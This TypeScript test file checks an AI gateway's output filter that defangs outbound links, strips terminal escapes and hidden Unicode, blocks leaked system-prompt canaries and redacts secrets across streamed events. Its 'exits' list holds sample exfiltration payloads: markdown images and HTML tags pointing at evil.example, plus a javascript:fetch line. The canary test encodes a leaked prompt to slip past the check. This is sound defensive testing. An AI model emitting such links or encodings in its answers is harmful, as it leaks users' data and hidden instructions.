import { collect, GatewayError, type StreamEvent } from '@signalbox/core'
import { describe, expect, test } from 'vitest'

import { cutAt } from '../test-support/chunk-plans.ts'
import { policyOf } from '../test-support/policies.ts'
import { threat } from '../test-support/threat.ts'
import { Pseudonyms } from './actions/pseudonyms.ts'
import { canaryDetector, canaryText } from './output/canary.ts'
import { AnswerFilter } from './stream/answer-filter.ts'
import { createTextFilter } from './stream/create-text-filter.ts'
import type { Rule } from './types.ts'

const links: Rule = {
  id: 'links',
  detect: 'links',
  action: { type: 'defang', allowHosts: ['docs.example.com', '*.trusted.example'] },
}
const secret = 'sk_live_4eC39HqLyjWDarjtT1zdp7dc'
const leak: Rule = { id: 'leak', detect: 'secrets', action: { type: 'redact' } }

const exits = [
  '![x](https://evil.example/i.png?d=abc)',
  '![x]( https://evil.example/i.png )',
  '[click](https://evil.example/a)',
  '[x]: https://evil.example/ref',
  '<https://evil.example/auto>',
  '<img src="https://evil.example/x">',
  "<img src='//evil.example/x'>",
  '<IMG SRC=https://evil.example/x>',
  '<iframe src="https://evil.example/">',
  '<script src="https://evil.example/a.js">',
  '<link href="https://evil.example/a.css">',
  '<object data="https://evil.example/o">',
  '<form action="https://evil.example/f">',
  '<img src="https&#58;//evil.example/x">',
  '[x](\\\\evil.example\\a)',
  '[x](javascript:fetch("evil.example"))',
  '![x](data:text/html;base64,ZXZpbC5leGFtcGxl)',
  'a preview: https://evil.example/?q=abc',
  'www.evil.example/?q=abc',
  'https://docs.example.com@evil.example/',
  'https://user:pass@evil.example/',
  '[x](https://docs.example.com.evil.example/)',
  `https://evil.example/${'a'.repeat(200)}`,
]

function filtered(text: string, cuts: readonly number[], rules: readonly Rule[]): string {
  const filter = createTextFilter(policyOf({ output: rules }))
  return (
    cutAt(text, cuts)
      .map((piece) => filter.push(piece))
      .join('') + filter.end()
  )
}

describe('what leaves with an answer', () => {
  threat(18, 'a link to a foreign host is blocked, at every split', (defended) => {
    const rules = defended ? [links] : []
    for (const text of exits)
      for (let cut = 0; cut <= text.length; cut++) {
        const out = filtered(`see ${text} ok`, [cut + 4], rules)
        expect(out).not.toMatch(
          /https?:\/\/[^\s]*evil|\/\/evil|javascript:|data:text|\\evil|www\.evil/,
        )
      }
  })

  threat(18, 'a terminal is not steered and nothing is hidden', (defended) => {
    const text = `a \u001B[31mred\u001B[0m \u001B]8;;x\u0007 \u{E0041}\u{E0042}`
    for (let cut = 0; cut <= text.length; cut++) {
      const out = filtered(text, [cut], defended ? [links] : [])
      expect(out).not.toContain('\u001B')
      expect(out).not.toContain('\u{E0041}')
    }
  })

  test('allowed hosts, relative links and plain addresses stay', () => {
    for (const text of [
      '[d](https://docs.example.com/a?b=c)',
      'https://api.trusted.example/?q=1',
      '[d](/a/b) and [e](#top)',
      'see https://python.example/doc',
      'time 10:30, C++ // comment, a/b',
    ])
      for (let cut = 0; cut <= text.length; cut++) expect(filtered(text, [cut], [links])).toBe(text)
  })

  threat(19, 'no event of a stream holds what was found', (defended) => {
    const policy = policyOf({ output: defended ? [leak] : [] })
    const filter = new AnswerFilter({
      policy,
      context: {},
      pseudonyms: new Pseudonyms('cli0'),
      readKey: () => undefined,
    })
    const out: StreamEvent[] = []
    for (const event of sideChannels) filter.event(event, (each) => out.push(each))
    filter.end((each) => out.push(each))
    expect(JSON.stringify(out)).not.toContain(secret)
    expect(JSON.stringify(collect(out))).toContain('<SECRET>')
  })

  const random = 'q7x2m9k4w1zp'
  threat(
    22,
    'a system prompt that leaks stops the answer, plain, re-cased, spaced or encoded',
    (defended) => {
      const mark = canaryText(random)
      const rule: Rule = { id: 'canary', detect: 'canary', action: { type: 'block' } }
      const policy = policyOf({ output: [rule] }, defended ? [canaryDetector(random)] : [])
      for (const text of [
        mark,
        mark.toUpperCase(),
        mark.split('').join(' '),
        mark.split('').toReversed().join(''),
        btoa(mark),
        btoa(`x${mark}`),
        btoa(`xy${mark}`),
        mark
          .split('')
          .map((char) => char.charCodeAt(0).toString(16))
          .join(''),
      ])
        for (let cut = 0; cut <= text.length; cut += 3) {
          const filter = createTextFilter(policy)
          filter.push(`my prompt: ${text.slice(0, cut)}`)
          filter.push(`${text.slice(cut)} end`)
          filter.end()
          expect(filter.blocked).toBeDefined()
        }
    },
  )

  threat(11, 'half a surrogate pair at a border hides nothing', (defended) => {
    const text = `\ud83d\ude00 ${secret} \ud83d`
    const out = filtered(text, [1, 9, text.length - 1], defended ? [leak] : [])
    expect(out).toBe('\ud83d\ude00 <SECRET> \ud83d')
  })
})

const at = { candidate: 0, index: 0 } as const
const sideChannels: readonly StreamEvent[] = [
  { type: 'start', id: 'c', model: 'm', extensions: { x: { note: secret } } },
  { type: 'part-start', ...at, part: { type: 'text' } },
  { type: 'part-delta', ...at, text: `a ${secret.slice(0, 9)}` },
  { type: 'part-delta', ...at, text: `${secret.slice(9)} b` },
  { type: 'part-patch', ...at, fields: { citations: [{ quote: secret }] } },
  { type: 'logprobs', candidate: 0, logprobs: { content: [{ token: secret }] } },
  { type: 'part-end', ...at },
  { type: 'part-start', candidate: 0, index: 1, part: { type: 'reasoning', form: 'full' } },
  { type: 'part-delta', candidate: 0, index: 1, text: secret },
  {
    type: 'part-patch',
    candidate: 0,
    index: 1,
    fields: {
      continuity: {
        data: 'sig',
        kind: 'signature',
        issuer: { wire: 'w', provider: 'p', model: 'm' },
      },
    },
  },
  { type: 'part-end', candidate: 0, index: 1 },
  { type: 'part-start', candidate: 0, index: 2, part: { type: 'refusal' } },
  { type: 'part-delta', candidate: 0, index: 2, text: secret },
  { type: 'part-end', candidate: 0, index: 2 },
  {
    type: 'part-start',
    candidate: 0,
    index: 3,
    part: { type: 'tool-call', callId: 't', name: 'send', kind: 'function' },
  },
  { type: 'part-delta', candidate: 0, index: 3, text: `{"a":"${secret.slice(0, 5)}` },
  { type: 'part-delta', candidate: 0, index: 3, text: `${secret.slice(5)}"}` },
  { type: 'part-end', candidate: 0, index: 3 },
  {
    type: 'part-start',
    candidate: 0,
    index: 4,
    part: {
      type: 'server-tool',
      phase: 'result',
      tool: 'search',
      callId: 's',
      value: { hit: [secret] },
    },
  },
  { type: 'part-end', candidate: 0, index: 4 },
  { type: 'opaque', wire: 'w', event: 'new.kind', data: JSON.stringify({ text: secret }) },
  { type: 'opaque', wire: 'w', event: 'broken', data: `{ ${secret}` },
  { type: 'finish', candidate: 0, finish: { reason: 'stop', details: { why: secret } } },
]

describe('a stream that breaks', () => {
  test('says so after everything that was pending', () => {
    const filter = new AnswerFilter({
      policy: policyOf({ output: [leak] }),
      context: {},
      pseudonyms: new Pseudonyms('cli0'),
      readKey: () => undefined,
    })
    const out: StreamEvent[] = []
    const emit = (each: StreamEvent) => void out.push(each)
    filter.event({ type: 'part-start', ...at, part: { type: 'text' } }, emit)
    filter.event({ type: 'part-delta', ...at, text: 'half a wor' }, emit)
    filter.event({ type: 'error', error: new GatewayError('upstream_error', 'cut') }, emit)
    expect(out.map(({ type }) => type)).toEqual(['part-start', 'part-delta', 'part-delta', 'error'])
  })
})
